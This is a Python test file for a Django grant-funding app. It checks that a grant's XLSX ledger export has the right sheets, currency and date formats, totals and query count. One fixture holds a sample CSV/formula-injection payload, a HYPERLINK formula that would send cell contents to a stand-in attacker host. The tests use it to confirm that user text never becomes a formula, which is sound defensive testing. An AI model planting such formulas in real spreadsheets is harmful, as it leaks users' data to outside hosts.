"""The XLSX ledger of a grant: sheets, real numbers and dates, totals, no formulas from user text, queries."""

import datetime
import zipfile
from decimal import Decimal
from io import BytesIO

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils.text import capfirst
from django.utils.translation import gettext

from funding import exports, services
from funding.models import Grant, Spending
from municipalities.scoping import town_scope
from tests import factories

pytestmark = pytest.mark.django_db

BASE = "/arnsberg/verwaltung/foerderung/"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DANGEROUS = '=HYPERLINK("https://evil.example/?d="&A1;"Beleg öffnen")'
EUR = '#,##0.00 "€"'
SHEETS = ["Übersicht", "Ausgabenplan", "Ausgaben", "Mittelabrufe", "Meilensteine", "Verwendungsnachweise"]


@pytest.fixture
def grant(town_a, admin_a, editor_a):
    project = factories.project(municipality=town_a, title="Sensornetz Innenstadt")
    with town_scope(town_a):
        grant = services.grant_create(
            municipality=town_a,
            by=admin_a,
            fields={
                "title": "Modellprojekt Smart Cities",
                "reference": "SC-2023-0815",
                "cohort": "Staffel 3",
                "approved_on": datetime.date(2023, 11, 1),
                "period_start": datetime.date(2024, 1, 1),
                "period_end": datetime.date(2026, 12, 31),
                "eligible_costs": Decimal("1000000.00"),
                "funding_rate": Decimal("65.00"),
            },
        )
        services.budget_line_save(
            grant=grant,
            by=editor_a,
            fields={
                "year": 2025,
                "cost_type": "personnel",
                "amount": Decimal("200000.00"),
                "project": project,
                "note": "+2 Stellen",
            },
        )
        services.budget_line_save(
            grant=grant,
            by=editor_a,
            fields={"year": 2026, "cost_type": "investment", "amount": Decimal("100000.50")},
        )
        services.spending_record(
            grant=grant,
            by=editor_a,
            fields={
                "spent_on": datetime.date(2025, 3, 1),
                "cost_type": "personnel",
                "project": project,
                "amount": Decimal("1250.55"),
                "description": DANGEROUS,
                "payee": "-Firma GmbH",
                "voucher": "@B-17",
            },
        )
        services.spending_record(
            grant=grant,
            by=None,
            fields={
                "spent_on": datetime.date(2026, 2, 1),
                "cost_type": "investment",
                "amount": Decimal("749.45"),
                "description": "Sensoren",
            },
        )
        services.disbursement_prepare(
            grant=grant,
            by=editor_a,
            fields={"year": 2025, "amount": Decimal("10000.00"), "purpose": "Entwurf"},
        )
        paid = services.disbursement_prepare(
            grant=grant,
            by=editor_a,
            fields={"year": 2025, "amount": Decimal("50000.00"), "purpose": "Personal 1. Quartal"},
        )
        services.disbursement_submit(item=paid, by=admin_a, submitted_on=datetime.date(2025, 3, 3))
        services.disbursement_mark_paid(item=paid, by=editor_a, paid_on=datetime.date(2025, 4, 1))
        services.milestone_save(
            grant=grant,
            by=editor_a,
            projects=[project],
            fields={"title": "Datenplattform in Betrieb", "phase": "B", "due_on": datetime.date(2099, 6, 30)},
        )
        services.proof_save(
            grant=grant,
            by=editor_a,
            fields={
                "kind": "interim",
                "year": 2025,
                "due_on": datetime.date(2026, 4, 30),
                "note": "Zwischennachweis 2025",
            },
        )
        yield Grant.objects.get(pk=grant.pk)


def _workbook(content: bytes):
    return openpyxl.load_workbook(BytesIO(content))


def _rows(ws, first: int = 2) -> list[tuple]:
    return list(ws.iter_rows(min_row=first, values_only=True))


def _amount(value) -> Decimal:
    assert isinstance(value, (int, float)) and not isinstance(value, bool), value
    return Decimal(str(value)).quantize(Decimal("0.01"))


def _year_table(ws):
    """The per-year rows and the totals row of the overview."""
    labels = [cell.value for cell in ws["A"]]
    header = labels.index(gettext("Year")) + 1
    total = labels.index(gettext("Total")) + 1
    rows = [[cell.value for cell in row] for row in ws.iter_rows(min_row=header + 1, max_row=total)]
    return rows[:-1], rows[-1]


def test_the_workbook_has_one_sheet_per_part_with_a_bold_frozen_filtered_header(grant):
    wb = _workbook(exports.grant_ledger_xlsx(grant))
    assert wb.sheetnames == SHEETS
    for name in SHEETS[1:]:
        ws = wb[name]
        assert ws.freeze_panes == "A2"
        assert ws["A1"].font.b
        assert ws.auto_filter.ref.startswith("A1:")
        assert ws.auto_filter.ref.endswith(str(ws.max_row))
        assert all(ws.column_dimensions[letter].width >= 8 for letter in "ABCD")
    assert wb["Ausgaben"]["A1"].value == capfirst(Spending._meta.get_field("spent_on").verbose_name)
    assert wb["Ausgaben"]["D1"].value == capfirst(Spending._meta.get_field("amount").verbose_name)


def test_the_overview_shows_the_grant_and_totals_that_are_the_sums_of_the_years(grant):
    ws = _workbook(exports.grant_ledger_xlsx(grant))["Übersicht"]
    facts = {
        row[0]: (row[1], ws.cell(row=index, column=2))
        for index, row in enumerate(ws.iter_rows(min_row=1, max_row=17, max_col=2, values_only=True), start=1)
    }
    values = [value for value, _cell in facts.values()]
    assert "Modellprojekt Smart Cities" in values and "SC-2023-0815" in values and "Staffel 3" in values
    amounts = [_amount(value) for value, cell in facts.values() if cell.number_format == EUR]
    assert amounts == [Decimal("1000000.00"), Decimal("650000.00"), Decimal("350000.00")]
    dates = [value for value, cell in facts.values() if isinstance(value, datetime.datetime)]
    assert [value.date() for value in dates] == [
        datetime.date(2023, 11, 1),
        datetime.date(2024, 1, 1),
        datetime.date(2026, 12, 31),
    ]
    assert all(cell.number_format == "DD.MM.YYYY" for value, cell in facts.values() if value in dates)
    rate = next(cell for _value, cell in facts.values() if cell.number_format == "0.00 %")
    assert Decimal(str(rate.value)) == Decimal("0.65")

    years, total = _year_table(ws)
    assert [row[0] for row in years] == [2024, 2025, 2026]
    by_year = {row[0]: [_amount(value) for value in row[1:6]] for row in years}
    assert by_year[2025] == [
        Decimal(v) for v in ("200000.00", "130000.00", "1250.55", "50000.00", "50000.00")
    ]
    assert by_year[2026] == [Decimal(v) for v in ("100000.50", "65000.33", "749.45", "0.00", "0.00")]
    assert total[0] == gettext("Total")
    totals = [_amount(value) for value in total[1:6]]
    assert totals == [sum((by_year[year][i] for year in by_year), Decimal("0.00")) for i in range(5)]
    assert totals == [Decimal(v) for v in ("300000.50", "195000.33", "2000.00", "50000.00", "50000.00")]
    # Per year against the federal share of the plan, in total against the approved federal share.
    assert Decimal(str(years[1][6])) == Decimal("0.385") and years[0][6] is None
    assert Decimal(str(total[6])) == Decimal("0.077")


def test_the_table_sheets_hold_real_amounts_and_dates(grant):
    wb = _workbook(exports.grant_ledger_xlsx(grant))

    budget = _rows(wb["Ausgabenplan"])
    assert [(row[0], row[2], _amount(row[3]), row[4]) for row in budget] == [
        (2025, "Sensornetz Innenstadt", Decimal("200000.00"), "+2 Stellen"),
        (2026, None, Decimal("100000.50"), None),
    ]
    assert wb["Ausgabenplan"]["D2"].number_format == EUR

    spending = _rows(wb["Ausgaben"])
    assert [(row[0], _amount(row[3])) for row in spending] == [
        (datetime.datetime(2026, 2, 1), Decimal("749.45")),
        (datetime.datetime(2025, 3, 1), Decimal("1250.55")),
    ]
    assert wb["Ausgaben"]["A2"].number_format == "DD.MM.YYYY"
    assert spending[1][2] == "Sensornetz Innenstadt" and spending[1][7].startswith("Person ")
    assert spending[0][7] is None

    # Years are numbers without a thousands separator (2025, not 2.025); request numbers are counts.
    assert (wb["Ausgabenplan"]["A2"].data_type, wb["Ausgabenplan"]["A2"].number_format) == ("n", "0")
    assert (wb["Mittelabrufe"]["B2"].value, wb["Mittelabrufe"]["B2"].number_format) == (2025, "0")
    assert wb["Mittelabrufe"]["A2"].number_format == "#,##0"
    assert wb["Verwendungsnachweise"]["B2"].number_format == "0"
    requests = _rows(wb["Mittelabrufe"])
    assert [(row[0], row[1], _amount(row[2])) for row in requests] == [
        (2, 2025, Decimal("50000.00")),
        (1, 2025, Decimal("10000.00")),
    ]
    assert requests[0][5:8] == (datetime.datetime(2025, 3, 3), datetime.datetime(2025, 4, 1), None)
    assert requests[1][5] is None

    milestones = _rows(wb["Meilensteine"])
    assert len(milestones) == 1
    assert milestones[0][0] == "Datenplattform in Betrieb"
    assert milestones[0][2] == datetime.datetime(2099, 6, 30)
    assert milestones[0][6] == "Sensornetz Innenstadt"

    proofs = _rows(wb["Verwendungsnachweise"])
    assert [(row[1], row[2], row[3], row[5]) for row in proofs] == [
        (2025, datetime.datetime(2026, 4, 30), None, "Zwischennachweis 2025")
    ]


def test_text_from_users_never_becomes_a_formula(grant):
    content = exports.grant_ledger_xlsx(grant)
    ws = _workbook(content)["Ausgaben"]
    row = next(row for row in ws.iter_rows(min_row=2) if row[4].value and "HYPERLINK" in row[4].value)
    description, payee, voucher = row[4], row[5], row[6]
    assert description.value == DANGEROUS and description.data_type == "s" and description.quotePrefix
    assert (payee.value, payee.data_type, payee.quotePrefix) == ("-Firma GmbH", "s", True)
    assert (voucher.value, voucher.data_type, voucher.quotePrefix) == ("@B-17", "s", True)
    with zipfile.ZipFile(BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        xml = [archive.read(name) for name in sheets]
    assert xml and not any(b"<f>" in part or b"<f " in part for part in xml)


def test_the_export_runs_a_fixed_number_of_queries(grant, editor_a, django_assert_max_num_queries):
    with django_assert_max_num_queries(15), CaptureQueriesContext(connection) as first:
        exports.grant_ledger_xlsx(grant)
    extra = factories.project(municipality=grant.municipality, title="Bürger-App")
    for day in range(1, 6):
        services.spending_record(
            grant=grant,
            by=editor_a,
            fields={
                "spent_on": datetime.date(2025, 5, day),
                "cost_type": "material",
                "project": extra,
                "amount": Decimal("10.00"),
                "description": f"Beleg {day}",
            },
        )
        services.milestone_save(
            grant=grant,
            by=editor_a,
            projects=[extra],
            fields={"title": f"Meilenstein {day}", "phase": "B", "due_on": datetime.date(2026, 1, day)},
        )
    with CaptureQueriesContext(connection) as second:
        exports.grant_ledger_xlsx(grant)
    assert len(second) == len(first)


def test_staff_download_the_ledger_as_an_attachment(client, editor_a, grant):
    client.force_login(editor_a)
    response = client.get(f"{BASE}{grant.pk}/export.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    disposition = response["Content-Disposition"]
    assert disposition.startswith(f'attachment; filename="foerderung-arnsberg-{grant.pk}-')
    assert disposition.endswith('.xlsx"')
    assert _workbook(response.content).sheetnames == SHEETS
